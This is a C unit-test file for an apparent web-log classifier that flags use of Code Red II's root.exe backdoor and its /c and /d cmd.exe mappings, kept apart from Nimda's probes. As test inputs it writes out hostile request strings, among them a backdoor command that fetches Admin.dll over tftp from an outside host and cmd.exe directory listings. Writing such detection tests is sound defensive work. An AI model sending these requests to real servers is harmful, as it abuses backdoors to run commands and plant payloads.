/* SPDX-License-Identifier: MIT */
/* Use of Code Red II's backdoor (worm id "backdoor-use", [KB317605], [SANS-ACR2]):
 * commands through /scripts/root.exe and /MSADC/root.exe other than Nimda's
 * c+dir probes (Nimda's follow-up root.exe?/c+tftp), root.exe elsewhere, the
 * /c and /d drive mappings, root.exe without a command, and the error-log
 * file-path form - on hand-built requests and through the NCSA parser with
 * each line against a guard page. */
#include "wormtest.h"

#define expect(r, worm, conf, sig, variant) wt_expect(r, worm, conf, sig, variant, 0)

static int parse_line(const char *rq, int status, struct ws_request *r)
{
	return wt_parse_line("198.51.100.23", "19/Sep/2001:02:12:04 +0000", rq, true, status, 0, r);
}

static void test_tftp_follow_up(void **state)
{
	(void)state;
	/* [KB317605]: GET /scripts/root.exe?/c+tftp -i <ip> GET Admin.dll,
	 * as Apache logs it (spaces sent as %20). */
	struct ws_request r;
	assert_int_equal(
		parse_line("GET /scripts/root.exe?/c+tftp%20-i%20192.0.2.77%20GET%20Admin.dll "
			   "HTTP/1.0",
			   200, &r),
		WS_PARSE_OK);
	assert_int_equal(r.status, 200);
	expect(&r, "backdoor-use", WS_CONF_EXACT, "backdoor-use.root-exe",
	       "Nimda follow-up (tftp)");
	r = make_req("GET", "/MSADC/root.exe", "/c+tftp+-i+192.0.2.77+GET+Admin.dll", "HTTP/1.0",
		     WS_TARGET_RAW);
	expect(&r, "backdoor-use", WS_CONF_EXACT, "backdoor-use.root-exe",
	       "Nimda follow-up (tftp)");
	ws_guard_release();
}

static void test_other_commands(void **state)
{
	(void)state;
	/* codered_x.sc's probe ([SANS-ACR2]): someone checking for the backdoor. */
	struct ws_request r = make_req("GET", "/scripts/root.exe", "/c+dir+c:\\+/OG", "HTTP/1.0",
				       WS_TARGET_RAW);
	expect(&r, "backdoor-use", WS_CONF_EXACT, "backdoor-use.root-exe", NULL);
	r = make_req("GET", "/msadc/root.exe", "/c+ver", "HTTP/1.1", WS_TARGET_RAW);
	expect(&r, "backdoor-use", WS_CONF_EXACT, "backdoor-use.root-exe", NULL);
	r = make_req("GET", "/Scripts/Root.exe", "/c+dir", "HTTP/1.0", WS_TARGET_RAW);
	expect(&r, "backdoor-use", WS_CONF_EXACT, "backdoor-use.root-exe", NULL);
	r = make_req("GET", "/d/inetpub/scripts/root.exe", "/c+dir", "HTTP/1.0", WS_TARGET_RAW);
	expect(&r, "backdoor-use", WS_CONF_PARTIAL, "backdoor-use.root-exe",
	       "root.exe outside /scripts and /MSADC");
	/* IIS form: stem and query apart. */
	r = make_req("GET", "/scripts/root.exe", "/c+tftp+-i+192.0.2.77+GET+Admin.dll", NULL,
		     WS_TARGET_DECODED);
	expect(&r, "backdoor-use", WS_CONF_EXACT, "backdoor-use.root-exe",
	       "Nimda follow-up (tftp)");
}

static void test_no_command(void **state)
{
	(void)state;
	struct ws_request r;
	assert_int_equal(parse_line("GET /scripts/root.exe HTTP/1.0", 404, &r), WS_PARSE_OK);
	expect(&r, "backdoor-use", WS_CONF_HEURISTIC, "backdoor-use.path-only", "no command");
	ws_guard_release();
}

static void test_drive_mappings(void **state)
{
	(void)state;
	struct ws_request r;
	/* The /c and /d virtual directories CRII creates ([SANS-ACR2]). */
	assert_int_equal(parse_line("GET /c/winnt/system32/cmd.exe?/c+ver HTTP/1.0", 302, &r),
			 WS_PARSE_OK);
	expect(&r, "backdoor-use", WS_CONF_EXACT, "backdoor-use.drive-dir", NULL);
	r = make_req("GET", "/D/winnt/system32/cmd.exe", "/c+dir+c:\\+/OG", "HTTP/1.0",
		     WS_TARGET_RAW);
	expect(&r, "backdoor-use", WS_CONF_EXACT, "backdoor-use.drive-dir", NULL);
	r = make_req("GET", "/c/winnt/system32/cmd.exe", NULL, "HTTP/1.0", WS_TARGET_RAW);
	expect(&r, "backdoor-use", WS_CONF_PARTIAL, "backdoor-use.drive-dir", NULL);
	ws_guard_release();
}

static void test_error_log_paths(void **state)
{
	(void)state;
	/* Apache error log: File does not exist: /var/www/html/scripts/root.exe */
	struct ws_request r = make_req("", "/var/www/html/scripts/root.exe", NULL, NULL,
				       WS_TARGET_FSPATH);
	expect(&r, "backdoor-use", WS_CONF_HEURISTIC, "backdoor-use.path-only",
	       "error log: query not logged");
	r = make_req("", "C:/Program Files/Apache Group/Apache/htdocs/MSADC/root.exe", NULL, NULL,
		     WS_TARGET_FSPATH);
	expect(&r, "backdoor-use", WS_CONF_HEURISTIC, "backdoor-use.path-only",
	       "error log: query not logged");
	/* A drive-mapping file path in an error log names nothing: /c/ is a
	 * directory like any other on the server's disk. */
	r = make_req("", "/c/winnt/system32/cmd.exe", NULL, NULL, WS_TARGET_FSPATH);
	struct ws_verdict v;
	assert_false(ws_classify(&r, &v));
	assert_int_equal(v.worm, -1);
}

static void test_nimda_probes_are_not_backdoor_use(void **state)
{
	(void)state;
	/* Nimda's first four probes go to Nimda, not here. */
	static const char *const probes[4] = {
		"/scripts/root.exe",
		"/MSADC/root.exe",
		"/c/winnt/system32/cmd.exe",
		"/d/winnt/system32/cmd.exe",
	};
	for (int i = 0; i < 4; i++) {
		struct ws_request r = make_req("GET", probes[i], "/c+dir", "HTTP/1.0", WS_TARGET_RAW);
		struct ws_verdict v;
		assert_true(ws_classify(&r, &v));
		assert_int_equal(v.worm, ws_worm_index("nimda"));
		assert_int_equal(v.nimda_mask, 1u << i);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_tftp_follow_up),
		cmocka_unit_test(test_other_commands),
		cmocka_unit_test(test_no_command),
		cmocka_unit_test(test_drive_mappings),
		cmocka_unit_test(test_error_log_paths),
		cmocka_unit_test(test_nimda_probes_are_not_backdoor_use),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
